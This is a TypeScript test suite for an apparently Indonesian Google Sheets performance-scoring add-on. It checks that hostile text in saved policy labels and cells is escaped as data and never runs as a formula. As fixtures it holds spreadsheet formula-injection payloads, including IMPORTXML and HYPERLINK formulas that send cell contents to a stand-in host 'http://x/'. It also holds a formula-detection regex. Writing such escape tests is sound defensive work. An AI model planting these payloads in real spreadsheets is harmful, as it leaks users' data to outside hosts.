/**
 * Everything the add-on writes is data. Hostile texts in a saved policy (category and SAKIP labels) and
 * in cells (names, positions, unit names, indicators) never start a formula in a written cell: the port
 * escapes every string (port/cell-data.ts), and only the add-on's own HYPERLINK in "Masalah Data" and "Tabel Terbaca" is a
 * formula. Through the BUILT Code.js, and through the sheet builders with a policy that skipped import
 * validation (as a policy stored by an older version could).
 */
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { dashboardSheet } from '../../apps-script/src/features/dashboard/dashboard';
import { employeesSheet } from '../../apps-script/src/features/results/employees-sheet';
import { unitsSheet } from '../../apps-script/src/features/results/units-sheet';
import { rewardSheet } from '../../apps-script/src/features/reward/reward';
import { sakipSheet } from '../../apps-script/src/features/sakip/sakip';
import type { GasGlobals } from '../../apps-script/src/gas/types';
import { replaceSheets } from '../../apps-script/src/output/replace-sheets';
import { asData, startsLikeFormula, writtenValue } from '../../apps-script/src/port/cell-data';
import { GasSpreadsheetPort } from '../../apps-script/src/port/gas-adapter';
import { MemorySpreadsheet } from '../../apps-script/src/port/memory';
import { problemRows, problemsSheet } from '../../apps-script/src/problems/problems-sheet';
import type { Scored } from '../../apps-script/src/scoring/score-book';
import { savePolicy } from '../../apps-script/src/settings/policy-store';
import { workbookGrids } from '../../scripts/sample-sheets';
import { scoreOrganisation } from '../../shared/pipeline';
import { defaultPolicy, type Policy } from '../../shared/policy/schema';
import { sampleWorkbook } from '../../shared/sample';
import { Recorder } from '../../tools/apps-script-sandbox/fake-gas/recorder';
import {
  FakeConditionalBuilder,
  FakeSpreadsheet,
  FakeValidationBuilder,
} from '../../tools/apps-script-sandbox/fake-gas/spreadsheet';
import { ensureBuilt, loadSandbox, type Sandbox } from '../../tools/apps-script-sandbox/sandbox';
import { INPUT_SHEETS, runAll, WRITING_ACTIONS } from './output-state';

beforeAll(ensureBuilt);

/** How Sheets (and Excel, LibreOffice) tell a formula, written here independently of the add-on's check. */
const FORMULA = /^[\s\u200B-\u200D\u2060]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
/** The one formula the add-on builds: a link to a cell of this spreadsheet. */
const OWN_LINK = /^=HYPERLINK\("#gid=\d+&range=[A-Z]{1,3}\d+","Buka"\)$/;

const HOSTILE_LABELS = [
  '=IMPORTXML("http://x/?"&A2,"//a")',
  '+1',
  '-1',
  '@SUM(A1)',
  '  =HYPERLINK("http://x/","klik")',
];

/** A policy whose category, SAKIP grade and SAKIP component labels are all hostile. */
function hostilePolicy(): Policy {
  const policy: Policy = JSON.parse(JSON.stringify(defaultPolicy()));
  policy.capaian.categories.forEach((c, i) => {
    c.label = HOSTILE_LABELS[i % HOSTILE_LABELS.length] ?? '=1';
  });
  policy.sakip.grades.forEach((g, i) => {
    g.label = HOSTILE_LABELS[(i + 1) % HOSTILE_LABELS.length] ?? '=1';
  });
  policy.sakip.components.forEach((c, i) => {
    // The LKE worksheet still names the component as before: keep that name as an alias.
    c.aliases = [...c.aliases, c.label];
    c.label = `=${i}+${c.label.length}`;
  });
  return policy;
}

/** The sample OPD with hostile texts in cells: a name, a position, two unit names, an indicator. */
function hostileSheets() {
  const replace: Record<string, string> = {
    'Ahmad Fauzi, S.Sos.': '=HYPERLINK("http://x/?"&B2,"Ahmad")',
    'Kepala Subbagian Keuangan': '+62 812 3456 7890',
    Sekretariat: '-Sekretariat',
    'Bidang Pelayanan Kesehatan': '@Bidang Pelayanan Kesehatan',
    'Jumlah surat masuk dan keluar yang diagendakan': '=1+1',
  };
  return workbookGrids(sampleWorkbook()).map((g) => ({
    name: g.name,
    rows: g.rows.map((row) => row.map((cell) => replace[cell] ?? cell)),
  }));
}

const storedPolicy = (policy: Policy): Record<string, string> => {
  const props = new MemorySpreadsheet();
  savePolicy(props, policy);
  return Object.fromEntries(props.properties);
};

/** Every written cell that starts like a formula and is not the add-on's own link, as "sheet!R1C1: text". */
function formulaCells(sheets: { name: string; rows: unknown[][] }[]): string[] {
  const found: string[] = [];
  for (const { name, rows } of sheets)
    for (const [r, row] of rows.entries())
      for (const [c, cell] of row.entries()) {
        if (typeof cell !== 'string' || !FORMULA.test(cell)) continue;
        if (name === 'Masalah Data' && c === 6 && OWN_LINK.test(cell)) continue;
        // "Tabel Terbaca" links each table's header row the same way (its last column).
        if (name === 'Tabel Terbaca' && c === 12 && OWN_LINK.test(cell)) continue;
        found.push(`${name}!R${r + 1}C${c + 1}: ${cell}`);
      }
  return found;
}

const outputsOf = (box: Sandbox) =>
  box.book.sheets
    .filter((s) => !INPUT_SHEETS.includes(s.name))
    .map((s) => ({ name: s.name, rows: s.snapshot() as unknown[][] }));

const conditionalTexts = (box: Sandbox): string[] =>
  box.book.sheets.flatMap((s) =>
    s.conditionalRules.flatMap((r) => {
      const text = (r as { textEquals?: unknown }).textEquals;
      return typeof text === 'string' ? [text] : [];
    }),
  );

describe('hostile texts through the built Code.js', () => {
  it('a hostile saved policy and hostile cells: no written cell starts a formula the add-on did not build', () => {
    const box = loadSandbox({ sheets: hostileSheets(), documentProperties: storedPolicy(hostilePolicy()) });
    for (const [fn] of WRITING_ACTIONS) {
      box.call(fn);
      expect(formulaCells(outputsOf(box)), fn).toEqual([]);
    }
    expect(conditionalTexts(box).filter((t) => FORMULA.test(t))).toEqual([]);
  });

  it('hostile names, positions, unit names and indicators reach the results as text', () => {
    const box = loadSandbox({ sheets: hostileSheets() });
    const texts = runAll(box);
    expect(texts[0]).toContain('40 pegawai dinilai');
    const outputs = outputsOf(box);
    expect(formulaCells(outputs)).toEqual([]);
    const written = (name: string) => outputs.find((o) => o.name === name)?.rows.flat() ?? [];
    expect(written('Hasil Pegawai')).toContain(`'=HYPERLINK("http://x/?"&B2,"Ahmad")`);
    expect(written('Hasil Pegawai')).toContain("'+62 812 3456 7890");
    expect(written('Hasil Unit')).toEqual(
      expect.arrayContaining(["'-Sekretariat", "'@Bidang Pelayanan Kesehatan"]),
    );
    expect(written('Dasbor')).toContain("'-Sekretariat");
    expect(written('Reward & Punishment')).toContain("'-Sekretariat");
    expect(written('Evaluasi SAKIP')).toContain("'@Bidang Pelayanan Kesehatan");
    // The add-on's own links are still formulas.
    expect(written('Masalah Data').some((v) => typeof v === 'string' && OWN_LINK.test(v))).toBe(true);
  });
});

describe('hostile policy labels that reach the sheet builders', () => {
  const policy = hostilePolicy();
  const result = scoreOrganisation(sampleWorkbook(), policy);

  /** The SpreadsheetApp adapter over the fake services, as Code.js uses it. */
  function gasBook() {
    const rec = new Recorder();
    const book = new FakeSpreadsheet(rec);
    book.addSheet({ name: 'Pegawai', rows: [['NIP']] });
    const gas: GasGlobals = {
      SpreadsheetApp: {
        getActive: () => book,
        getUi: () => {
          throw new Error('no ui');
        },
        newDataValidation: () => new FakeValidationBuilder(),
        newConditionalFormatRule: () => new FakeConditionalBuilder(),
      },
    };
    return { book, port: new GasSpreadsheetPort(book, gas) };
  }

  it('are written as text in every output, and get no colour rule Sheets would evaluate', () => {
    const { book, port } = gasBook();
    const sakip = sakipSheet({ result } as Scored);
    if (!sakip) throw new Error('the sample OPD has a SAKIP worksheet');
    const problems = problemRows([
      {
        sheet: 'Pegawai',
        sheetId: 0,
        row: 3,
        column: 'B',
        value: '@SUM(A1)',
        message: '=IMPORTXML("http://x/","//a") bukan nama',
        severity: 'error',
      },
    ]);
    const written = replaceSheets(port, [
      problemsSheet(problems),
      employeesSheet(result, policy),
      unitsSheet(result),
      dashboardSheet(result, policy),
      rewardSheet(result),
      sakip.sheet,
    ]);
    expect(written.ok).toBe(true);
    const sheets = book.sheets.map((s) => ({ name: s.name, rows: s.snapshot() as unknown[][] }));
    expect(formulaCells(sheets)).toEqual([]);
    const cells = sheets.flatMap((s) => s.rows.flat());
    const categories = new Set(result.employees.flatMap((e) => (e.kategori ? [e.kategori.label] : [])));
    expect(categories.size).toBeGreaterThanOrEqual(3);
    for (const label of categories) expect(cells, label).toContain(`'${label}`);
    for (const c of policy.sakip.components) expect(cells, c.label).toContain(`'${c.label}`);
    expect(cells).toContain("'@SUM(A1)");
    expect(cells).toContain('=HYPERLINK("#gid=0&range=B3","Buka")');
    // Every category label is hostile: none gets a colour rule, the predikat and flags still do.
    const rules = book.sheets
      .find((s) => s.name === 'Hasil Pegawai')!
      .conditionalRules.map((r) => (r as { textEquals?: string }).textEquals ?? '');
    expect(rules.filter((t) => FORMULA.test(t))).toEqual([]);
    expect(rules).toEqual(expect.arrayContaining(['Sangat Baik', 'Ya']));
  });
});

describe('asData', () => {
  it('never leaves text that starts like a formula, and keeps every other text as it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 12 }), (s) => {
        const out = asData(s);
        expect(startsLikeFormula(out)).toBe(false);
        expect(FORMULA.test(out)).toBe(false);
        expect(out === s || out === `'${s}`).toBe(true);
        if (!FORMULA.test(s)) expect(out).toBe(s);
      }),
      { numRuns: 2000 },
    );
    for (const hostile of ['=1', '+1', '-1', '@A1', ' =1', '\t+1', '\u200B=1', '＝1', '\n@x'])
      expect(asData(hostile)).toBe(`'${hostile}`);
  });
});

describe('writtenValue', () => {
  it('never hands a non-finite number to Sheets: the cell stays blank', () => {
    for (const n of [Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, Number.NaN])
      expect(writtenValue(n)).toBe('');
    expect(writtenValue(1e308)).toBe(1e308);
    expect(writtenValue(0)).toBe(0);
  });
});
